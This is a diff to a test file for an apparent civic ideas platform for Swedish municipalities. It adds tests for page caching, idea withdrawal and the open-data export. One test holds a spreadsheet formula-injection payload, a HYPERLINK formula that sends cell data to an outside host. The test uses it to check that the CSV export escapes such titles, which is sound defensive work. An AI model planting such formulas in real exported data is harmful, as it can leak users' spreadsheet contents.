@@ -5,6 +5,7 @@ import { useTestServer } from "../../../test/support/app.js";
 import { demo } from "../../../test/support/client.js";
 import { resetDatabase, testDatabase } from "../../../test/support/database.js";
 import { graphql } from "../../../test/support/graphql.js";
+import { submittedIdea } from "../../../test/support/ideas.js";
 import { toGlobalId } from "../../graphql/relay.js";
 import { users } from "../accounts/accounts.tables.js";
 import { ideaPlaces, ideas } from "../ideas/ideas.tables.js";
@@ -118,6 +119,16 @@ const Delete = graphql(`
   }
 `);
 
+const Withdraw = graphql(`
+  mutation WithdrawForPlaces($input: WithdrawIdeaInput!) {
+    withdrawIdea(input: $input) {
+      errors {
+        code
+      }
+    }
+  }
+`);
+
 const fieldsOf = ({ municipalityId: _m, ...rest }: { municipalityId: string } & Record<string, string>) => rest;
 const published = and(eq(ideas.visibility, "public"), sql`${ideas.stage} not in ('draft', 'withdrawn')`);
 
@@ -162,6 +173,20 @@ describe("municipality pages", () => {
     const list = (await client().ok(Municipalities, { slug: "gavleborg" })).arena!.municipalities;
     expect(list).toHaveLength(10);
     expect(list.find((m) => m.municipality.key === "hofors-kommun")?.ideaCount).toBe(expected.length);
+  });
+
+  it("show a new idea located there at once, and drop it when it is withdrawn, though pages are cached", async () => {
+    const hofors = toGlobalId("Organisation", await orgId("gavleborg", "hofors-kommun"));
+    const visitor = client();
+    const listed = async () =>
+      (await visitor.ok(Page, { arena: "gavleborg", municipality: "hofors-kommun" })).municipalityPage!.ideas.map((i) => i.title);
+    const before = await listed();
+    const bearer = await client().signInAs(demo.bearer);
+    const idea = await submittedIdea(bearer, { title: "Cykelbibliotek i Hofors", visibility: "PUBLIC", municipalityIds: [hofors] });
+    expect(await listed()).toEqual(["Cykelbibliotek i Hofors", ...before]);
+    const { withdrawIdea } = await bearer.ok(Withdraw, { input: { id: idea.id } });
+    expect(withdrawIdea.errors).toEqual([]);
+    expect(await listed()).toEqual(before);
   });
 
   it("show the municipality's indicators against the county: the newest year of each indicator's first series", async () => {
@@ -257,6 +282,8 @@ describe("municipality pages", () => {
     expect(page.goodExamples.map((g) => g.title)).toEqual(["Idéfond för omställning till Hållbara Mora", "Mötesplats för unga 16–25"]);
     expect((await kansli.ok(Delete, { id: made.id })).deleteGoodExample.deletedId).toBe(made.id);
     expect(await count()).toBe(before);
+    const after = (await kansli.ok(Page, { arena: "dalarna", municipality: "mora-kommun" })).municipalityPage!;
+    expect(after.goodExamples.map((g) => g.title)).toEqual(["Idéfond för omställning till Hållbara Mora"]);
   });
 });
 
@@ -271,6 +298,19 @@ const Unpublish = graphql(`
 `);
 
 describe("open data", () => {
+  it("guards text a spreadsheet would run as a formula: an idea titled =HYPERLINK(...) comes out as text", async () => {
+    const bearer = await client().signInAs(demo.bearer);
+    const title = '=HYPERLINK("https://example.com/?q="&A1,"Klicka")';
+    await submittedIdea(bearer, { title, summary: "-1 kronor per deltagare", visibility: "PUBLIC" });
+    const files = unzipSync(new Uint8Array(await (await fetch(`${url()}/open-data/all.zip`)).arrayBuffer()));
+    const csv = strFromU8(files["ideas.csv"]!);
+    expect(csv).toContain(`,"'=HYPERLINK(""https://example.com/?q=""&A1,""Klicka"")",'-1 kronor per deltagare,`);
+    expect(csv).not.toContain(`,"=HYPERLINK(`);
+    // data.json is no spreadsheet: the title as written.
+    const json = JSON.parse(strFromU8(files["data.json"]!)) as { ideas: { title: string }[] };
+    expect(json.ideas.map((i) => i.title)).toContain(title);
+  });
+
   it("downloads published ideas, learnings and public decisions as CSV and JSON in one zip, without personal data, with an ETag", async () => {
     await resetDatabase({ ideas: true });
     const db = (await testDatabase()).db;
